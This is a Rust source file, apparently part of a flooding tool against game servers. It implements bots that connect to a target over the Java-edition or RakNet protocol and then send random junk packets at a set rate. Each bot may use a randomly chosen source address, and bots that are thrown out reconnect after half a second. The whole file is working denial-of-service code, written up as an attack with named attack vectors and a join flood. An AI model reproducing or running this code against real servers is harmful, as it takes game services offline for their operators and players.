//! Bots that know the game: each has a real address, opens a connection as a client does and then sends junk at a steady
//! rate. One that is thrown out comes back, as bots do.

use std::net::SocketAddr;
use std::sync::atomic::Ordering;
use std::time::Duration;
use std::time::Instant;

use super::Attack;
use super::Progress;
use super::Sent;
use super::Vector;
use super::connect;
use super::pace::Pace;
use super::random::Random;
use crate::clock;
use crate::crowd::raknet;
use crate::crowd::socket::Socket;

/// A bot whose opening is not answered begins again after so long.
const OPENING_MAX: Duration = Duration::from_secs(1);
/// A bot whose connection ended comes back after so long.
const BACK: Duration = Duration::from_millis(500);
/// Bytes of junk at most.
const JUNK_BYTES: usize = 120;

/// One bot.
struct Bot {
    from: SocketAddr,
    socket: Option<Socket>,
    since: Instant,
    /// Its opening was said and, where there is an answer, answered.
    is_in: bool,
    said: bool,
}

/// Sends junk until a bound is reached or somebody says stop.
pub(crate) fn run(attack: &Attack, progress: &Progress) -> anyhow::Result<Sent> {
    let mut random = Random::new(11);
    let count = attack.sources.real().unwrap_or(1);
    let now = Instant::now();
    let mut bots: Vec<Bot> = Vec::new();
    for number in 0..count {
        let bot = attack.sources.bot(number.into(), attack.target.is_ipv6());
        let source = bot.unwrap_or_else(|| random.source(attack.sources, &attack.target));
        let port = if attack.beside_players { 1_024 + number } else { 0 };
        bots.push(Bot {
            from: SocketAddr::new(source, port),
            socket: None,
            since: now,
            is_in: false,
            said: false,
        });
    }
    let mut sent = Sent::default();
    let (mut pace, mut number, mut next) = (Pace::new(attack), 0, 0);
    while let Some(wanted) = pace.next_batch(number, 16, progress) {
        number += wanted as u64;
        for bot in &mut bots {
            bot.look_after(attack, &mut random, &mut sent)?;
        }
        for _ in 0..wanted {
            next = (next + 1) % bots.len();
            bots[next].junk(attack.vector, &mut random, &mut sent);
        }
        progress.packets.store(sent.packets, Ordering::Relaxed);
    }
    Ok(sent)
}

impl Bot {
    /// Opens, hears and opens again.
    fn look_after(&mut self, attack: &Attack, random: &mut Random, sent: &mut Sent) -> anyhow::Result<()> {
        let stream = attack.vector == Vector::JavaJunk;
        let Some(socket) = &self.socket else {
            if self.since.elapsed() > BACK {
                let socket = Socket::connect_from(stream, self.from, attack.target)?;
                connect::leave_at_once(&socket)?;
                self.socket = Some(socket);
                (self.since, self.said) = (Instant::now(), false);
            }
            return Ok(());
        };
        if socket.is_open() && !self.said {
            self.said = true;
            let words = if stream { connect::words(Vector::JoinFlood, random) } else { raknet::request1() };
            socket.send(&words);
            // What a Java server answers needs no answer; a login that is never finished is enough.
            self.is_in = stream;
        }
        let mut over = false;
        while let Some(bytes) = socket.receive() {
            match (stream, bytes.first()) {
                (_, None) => {
                    over = true;
                    break;
                }
                (false, Some(0x06)) => over |= !socket.send(&raknet::request2(attack.target, 77)),
                (false, Some(0x08)) => self.is_in = true,
                _ => {}
            }
        }
        if over || (!self.is_in && self.since.elapsed() > OPENING_MAX) {
            sent.failed += 1;
            (self.socket, self.since, self.is_in) = (None, Instant::now(), false);
        }
        Ok(())
    }

    fn junk(&mut self, vector: Vector, random: &mut Random, sent: &mut Sent) {
        let Some(socket) = self.socket.as_ref().filter(|_| self.is_in) else { return };
        let mut junk = [0; JUNK_BYTES];
        random.fill(&mut junk);
        if vector == Vector::JavaJunk {
            // A frame of that length whose inside is noise.
            junk[0] = JUNK_BYTES as u8 - 1;
        } else {
            // The first bytes of a game datagram, then noise.
            junk[0] = 0x84;
        }
        if socket.send(&junk) {
            sent.packets += 1;
            sent.bytes += JUNK_BYTES as u64;
            sent.last_ms = clock::now_ms();
            if sent.first_ms == 0 {
                sent.first_ms = sent.last_ms;
            }
        }
    }
}
